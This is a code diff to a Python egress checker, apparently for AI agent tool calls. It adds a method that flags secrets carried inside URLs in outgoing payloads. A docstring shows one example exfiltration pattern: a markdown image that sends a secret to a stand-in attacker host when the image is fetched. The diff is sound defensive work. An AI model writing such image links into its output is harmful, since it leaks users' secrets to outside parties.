@@ -8,14 +8,15 @@ Rules:
    URL's path, query and subdomain) can be data. An argument under an opaque-id key carries
    none; nor does the part of a value that says which records a call changes (a WHERE clause).
 3. Of an egress call, whole words, values and prose are matched too, not only fragments of
-   distinctive tokens.
+   distinctive tokens; and what a URL inside a payload carries is also kept apart: it reaches
+   that URL's host wherever the message is written (an image a comment embeds is fetched).
 """
 
 from __future__ import annotations
 
 from collections.abc import Collection, Iterable, Sequence
 
-from .arguments import ArgLeaf, cut_out, parent_domains, subdomain, url_host, url_payload
+from .arguments import ArgLeaf, cut_out, parent_domains, subdomain, url_host, url_payload, urls_in
 from .canon import clean, matchable
 from .distinctive import identifier, identifiers, locators
 from .fingerprints import FingerprintIndex
@@ -54,6 +55,8 @@ class ArgumentMatcher:
                 self._match_form(form, match, shape, decoded=n > 0)
             if locator:
                 self._match_locator(locator, match)
+            if shape.egress and not match.destination and "://" in value:
+                self._match_outbound(value, match, shape)
             if leaf.path in shape.opaque:
                 match.sensitive_hits.clear()
                 match.payloads.clear()
@@ -132,6 +135,17 @@ class ArgumentMatcher:
             match.addressed_by.update(h.call for h in hits if h.value in named_ids)
         if shape.scan is not None:
             match.secrets.extend(shape.scan.scan(cleaned))
+
+    def _match_outbound(self, value: str, match: ArgumentMatch, shape: CallShape) -> None:
+        """The sensitive hits inside the URLs a payload carries to hosts outside the allowlist
+        (``![badge](https://evil.example/b.png?c=<salt>)`` in a comment)."""
+        allowed, home = self._p.egress.allow_hosts, shape.home_hosts
+        for url, host in urls_in(value):
+            if not allowed.matches(host) and not (home is not None and home.matches(host)):
+                found = ArgumentMatch(match.path, destination=False)
+                for n, form in enumerate(unmask(url, SINK_LIMITS)):
+                    self._match_form(form, found, shape, decoded=n > 0)
+                match.outbound_hits.extend(found.sensitive_hits)
 
     def _match_locator(self, value: str, match: ArgumentMatch) -> None:
         """Which records a call changes (a WHERE clause) carries no data to anyone: only what
